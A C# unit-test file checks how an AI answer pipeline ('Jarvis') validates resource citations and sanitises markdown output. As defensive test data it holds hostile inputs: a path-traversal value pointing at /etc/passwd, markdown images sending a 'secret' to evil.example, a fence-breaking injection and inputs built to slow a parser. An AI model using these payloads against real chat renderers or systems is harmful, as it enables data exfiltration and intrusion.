using System.Collections.Immutable;
using System.Text;
using Jarvis.Answers;
using Jarvis.Errors;
using Jarvis.Identity;
using Jarvis.Planning;
using Jarvis.Resources;
using Jarvis.Tasks;

namespace Jarvis.Core.Tests.Answers;

public sealed class AnswerTests
{
    private static readonly Resource Sound = new(new ResourceId(new string('a', 64)), "audio/wav", 10, "speech.wav");
    private static readonly Resource Page = new(new ResourceId(new string('b', 64)), "text/plain", 5, "page.txt") { Text = "Hello" };

    [Fact]
    public void A_citation_of_what_exists_is_kept_and_listed_once()
    {
        var text = $"Listen to [it](resource:{Sound.Id}), again [it](resource:{Sound.Id}).";

        var answer = CitationChecker.Check(text, [Page, Sound]);

        Assert.Equal(text, answer.Text);
        Assert.Equal(Sound, Assert.Single(answer.Resources));
    }

    [Theory]
    [InlineData("See [the file](resource:cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc).", "See the file.")]
    [InlineData("See [the file](resource:../../etc/passwd).", "See the file.")]
    [InlineData("See [the file](resource:).", "See the file.")]
    [InlineData("See ![the file](resource:x).", "See the file.")]
    [InlineData("See [the file]( resource:x ).", "See the file.")]
    [InlineData("See [the file](<resource:x>).", "See the file.")]
    [InlineData("See [the file](resource:x \"now\").", "See the file.")]
    [InlineData("See [the file](RESOURCE:x).", "See the file.")]
    [InlineData("See [[the file]](resource:x).", "See [[the file]](#).")]
    [InlineData("See [the file].\n\n[the file]: resource:x", "See [the file].\n\n[the file]: #")]
    [InlineData("See <resource:x>.", "See <#>.")]
    public void A_citation_of_what_does_not_exist_loses_its_link(string text, string expected)
    {
        var answer = CitationChecker.Check(text, [Sound]);

        Assert.Equal(expected, answer.Text);
        Assert.Empty(answer.Resources);
    }

    [Theory]
    [InlineData("![x](https://evil.example/?q=secret)", "[x](https://evil.example/?q=secret)")]
    [InlineData("![x][1]\n\n[1]: https://evil.example/", "[x][1]\n\n[1]: https://evil.example/")]
    [InlineData("![a ![b](http://e/)](http://e/)", "[a [b](http://e/)](http://e/)")]
    public void A_picture_from_elsewhere_becomes_a_link_that_nothing_fetches(string text, string expected) =>
        Assert.Equal(expected, CitationChecker.Check(text, [Sound]).Text);

    [Theory]
    [InlineData("```text\n[a](resource:x)\n```\n")]
    [InlineData("~~~\n<resource:x>\n```\n[a](resource:x)\n~~~\n")]
    [InlineData("````\n```\n[a](resource:x)\n````")]
    [InlineData("```\r\n[a](resource:x)\r\n   ```  \r\n")]
    [InlineData("```\n[a](resource:x)\nand no end")]
    public void Fenced_code_is_text_and_stays_as_it_is(string code)
    {
        Assert.Equal($"See b.\n{code}", CitationChecker.Check($"See [b](resource:y).\n{code}", [Sound]).Text);
        Assert.Empty(CitationChecker.Check($"```\n[it](resource:{Sound.Id})\n```", [Sound]).Resources);
    }

    [Theory]
    [InlineData("```\ncode\n```\n")]
    [InlineData("``` a`b\n")]
    [InlineData("``\n")]
    [InlineData("- item\n  ```\n")]
    [InlineData("- item\n\n  ```\n```\n```\n")]
    [InlineData("> ```\n")]
    [InlineData("1. ~~~\n")]
    [InlineData("<!--\n```\n-->\n")]
    [InlineData("<pre>\n```\n</pre>\n")]
    [InlineData("    ```\n")]
    [InlineData("````\n```\n````\n")]
    public void What_only_looks_like_fenced_code_hides_no_citation(string before) =>
        Assert.Equal($"{before}\nSee the file.", CitationChecker.Check($"{before}\nSee [the file](resource:x).", [Sound]).Text);

    [Fact]
    public void A_citation_in_another_form_of_what_exists_is_kept_too()
    {
        var text = $"![it](resource:{Sound.Id} \"title\"), [[it]](<resource:{Page.Id}>).";

        var answer = CitationChecker.Check(text, [Page, Sound]);

        Assert.Equal(text, answer.Text);
        Assert.Equal([Sound, Page], answer.Resources.AsEnumerable());
    }

    [Theory]
    [InlineData("[](resource:")]
    [InlineData("[](resource:x \"")]
    [InlineData("](   ")]
    [InlineData("]:\n")]
    public void Checking_takes_no_longer_for_hostile_text(string part)
    {
        var text = string.Concat(Enumerable.Repeat(part, 100_000));

        Assert.Empty(CitationChecker.Check(text, [Sound]).Resources);
    }

    [Fact]
    public async Task An_answer_says_what_each_task_gave_by_which_model_and_cites_the_files()
    {
        var answer = await AnswerAsync(Succeeded(TaskTypes.ImageToText, "text", Page), Succeeded(TaskTypes.TextToSpeech, "audio", Sound));

        Assert.Contains("**image-to-text** by some/model", answer, StringComparison.Ordinal);
        Assert.Contains("```text\nHello\n```", answer, StringComparison.Ordinal);
        Assert.Equal([Page, Sound], CitationChecker.Check(answer, [Page, Sound]).Resources.AsEnumerable());
    }

    [Fact]
    public async Task Text_of_a_result_cannot_leave_its_block()
    {
        var hostile = Page with { Text = "a\n````\n# Pwned\n```` b" };

        var answer = await AnswerAsync(Succeeded(TaskTypes.ImageToText, "text", hostile));

        Assert.Contains($"`````text\n{hostile.Text}\n`````\n", answer, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Text_that_is_cut_does_not_end_in_half_a_character()
    {
        var answer = await AnswerAsync(Succeeded(TaskTypes.ImageToText, "text", Page with { Text = new string('a', 1998) + string.Concat(Enumerable.Repeat("\ud83d\ude00", 9)) }));

        Assert.DoesNotContain('\uFFFD', Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(answer)));
        Assert.Contains("a…", answer, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Failures_skips_and_what_was_dropped_are_told_with_their_reasons()
    {
        var request = new AnswerRequest(
            TurnId.Parse("local/c/1"),
            "do",
            [
                new TaskOutcome(new PlannedTask(0, TaskTypes.ImageToText), null, new JarvisError(ErrorCode.ModelFailed, "It broke.")),
                new TaskOutcome(new PlannedTask(1, TaskTypes.Translation), null, new JarvisError(ErrorCode.ModelFailed, "It needs task 0."), Skipped: true),
            ],
            [new PartDropped("summarize it", "No language model is configured.")]);

        var answer = await JoinAsync(request);

        Assert.Contains("**image-to-text** failed: It broke.", answer, StringComparison.Ordinal);
        Assert.Contains("**translation** was not run: It needs task 0.", answer, StringComparison.Ordinal);
        Assert.Contains("summarize it. No language model is configured.", answer, StringComparison.Ordinal);
    }

    private static TaskOutcome Succeeded(string type, string port, Resource resource) => new(
        new PlannedTask(0, type),
        new TaskResult(ImmutableDictionary<string, ImmutableArray<Resource>>.Empty.Add(port, [resource]), new ModelId("some/model"), TimeSpan.FromSeconds(1)));

    private static Task<string> AnswerAsync(params ImmutableArray<TaskOutcome> outcomes) =>
        JoinAsync(new AnswerRequest(TurnId.Parse("local/c/1"), "do", outcomes, []));

    private static async Task<string> JoinAsync(AnswerRequest request)
    {
        var text = "";
        await foreach (var piece in new TemplateAnswerer(TaskTypeCatalog.Default).AnswerAsync(request, default))
        {
            text += piece;
        }

        return text;
    }
}
